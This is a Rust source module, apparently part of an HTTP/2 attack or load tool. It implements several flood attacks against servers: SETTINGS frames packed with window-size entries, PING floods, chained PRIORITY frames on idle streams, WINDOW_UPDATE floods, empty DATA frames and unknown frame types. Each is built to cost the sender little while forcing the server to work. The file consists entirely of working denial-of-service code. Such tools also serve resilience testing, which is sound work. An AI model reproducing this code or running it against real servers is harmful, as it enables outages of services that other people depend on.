//! Frames that cost the sender nothing and ask for work each.

use super::{Talk, frame};
use std::io;

pub async fn settings(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let entries: Vec<(u16, u32)> = if talk.context.attack.variant() == "entries" {
        // As many as a frame holds, each shrinking or growing every window.
        (0..2_700_u32)
            .map(|n| (frame::INITIAL_WINDOW_SIZE, 65_535 - n % 2))
            .collect()
    } else {
        Vec::new()
    };
    let frame = frame::settings(&entries);
    talk.flood(|_| frame.clone()).await
}

pub async fn ping(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let mut number = 0_u64;
    talk.flood(|_| {
        number = number.wrapping_add(1);
        frame::ping(number)
    })
    .await
}

pub async fn priority(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let mut parent = 0_u32;
    talk.flood(|talk| {
        // Idle streams, each beneath the one before.
        let stream = talk.stream();
        let frame = frame::priority(stream, parent);
        parent = stream;
        frame
    })
    .await
}

pub async fn window(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let frame = frame::window_update(0, 1);
    talk.flood(|_| frame.clone()).await
}

/// An upload of nothing, in ever so many parts.
pub async fn empty_data(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let stream = talk.stream();
    let begin = frame::headers(stream, &talk.post().0, false);
    talk.say(&begin).await?;
    let frame = frame::data(stream, b"", false);
    talk.flood(|_| frame.clone()).await
}

pub async fn unknown(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let frame = frame::frame(0x42, 0xff, 0, b"what");
    talk.flood(|_| frame.clone()).await
}
